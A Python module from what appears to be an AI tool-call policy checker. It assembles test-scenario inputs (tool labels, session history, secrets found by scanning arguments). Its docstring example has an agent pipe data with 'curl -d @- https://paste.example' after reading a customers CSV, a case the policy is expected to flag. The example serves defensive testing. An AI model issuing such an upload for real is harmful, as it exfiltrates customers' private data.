"""What a `policy test` scenario says of a call's flow, put in its policy input as `serve` puts it there: the
labels its tool carries (`labels:`), the session it is part of (`session:`, and the calls `after:` which it
comes, each decided in turn and its labels kept when it is let through), and the secrets found in its
arguments (`secrets:`; without it, an `egress` call's arguments are scanned by the detector `serve` uses).

    - name: a curl upload after a web fetch and a file read is asked
      after:
        - {tool: WebFetch, source: agent, arguments: {url: "https://example.com/issue/12"}}
        - {tool: Read, source: agent, arguments: {file_path: /srv/app/customers.csv}}
      call: {tool: Bash, source: agent, arguments: {command: "curl -d @- https://paste.example"}}
      expect: ask
      flow: [after-1, after-2]
"""

from __future__ import annotations

from datetime import datetime, timedelta
from typing import Any

from pydantic import Field, field_validator, model_validator

from toolkeeper.common import Strict
from toolkeeper.policy import Rules, empty_session, scan_arguments

SESSION_ID = "scenario"


def _labels(value: Any) -> Any:
    return [value] if isinstance(value, str) else value


class Seen(Strict):
    """A call the session made before the scenario's: the tool, the record id a decision's `flow` names."""

    tool: str = "an earlier call"
    record_id: str
    time: str | None = None  # ISO 8601; the scenario's time when not given


class Finding(Strict):
    """A secret the scan found in the call's arguments: its kind and where (never its value)."""

    kind: str
    where: str = "arguments"


class SessionSpec(Strict):
    """The session before the call: `has` the labels seen (each brought by one earlier call, `earlier-LABEL`),
    or `seen` them with the calls that brought them; `calls` how many calls it decided (by default, one per call
    named)."""

    calls: int | None = Field(default=None, ge=0)
    has: tuple[str, ...] = ()
    seen: dict[str, tuple[Seen, ...]] = Field(default_factory=dict)

    @field_validator("has", mode="before")
    @classmethod
    def _one(cls, value: Any) -> Any:
        return _labels(value)

    @model_validator(mode="after")
    def _something(self) -> SessionSpec:
        if not self.model_fields_set:
            raise ValueError("session needs has, seen or calls")
        return self

    def document(self, at: datetime) -> dict[str, Any]:
        before = (at - timedelta(hours=2)).isoformat()  # before any call `after:` names
        seen = {label: [{"tool": one.tool, "record_id": one.record_id, "time": one.time or before}
                        for one in calls] for label, calls in self.seen.items()}
        for label in self.has:
            seen.setdefault(label, [{"tool": "an earlier call", "record_id": f"earlier-{label}", "time": before}])
        named = {entry["record_id"] for entries in seen.values() for entry in entries}
        return {"id": SESSION_ID, "calls": len(named) if self.calls is None else self.calls, "has": sorted(seen),
                "seen": seen}


def start(spec: SessionSpec | None, at: datetime | None) -> dict[str, Any]:
    """The session a scenario's first call (its first `after:`, or the call itself) is decided in."""
    return spec.document(at or datetime.now().astimezone()) if spec is not None else empty_session(SESSION_ID)


def add(session: dict[str, Any], labels: list[str], tool: str, number: int, at: datetime | None) -> None:
    """One earlier call decided: counted, and its labels kept as `serve` keeps them (when it was let through)."""
    when = ((at or datetime.now().astimezone()) - timedelta(minutes=60 - number)).isoformat()
    session["calls"] += 1
    for label in labels:
        session["seen"].setdefault(label, []).append({"tool": tool, "record_id": f"after-{number}", "time": when})
    session["has"] = sorted(session["seen"])


def put(document: dict[str, Any], labeller: Rules | None, labels: tuple[str, ...], session: dict[str, Any],
        secrets: tuple[Finding, ...] | None) -> dict[str, Any]:
    """The call's labels (its tool's, the scenario's and the label rules'), its session, and the secrets in
    its arguments, in its policy input: the steps `serve` takes before it decides."""
    own = {*(document.get("labels") or ()), *labels}
    document.update(labels=sorted(own), session=session)
    if labeller is not None:
        document["labels"] = sorted(own | labeller.labels(document)[0])
    if secrets is not None:
        found = [finding.model_dump() for finding in secrets]
    else:
        found = scan_arguments(document.get("arguments")) if "egress" in document["labels"] else []
    document["secrets"] = {"arguments": found}
    return document
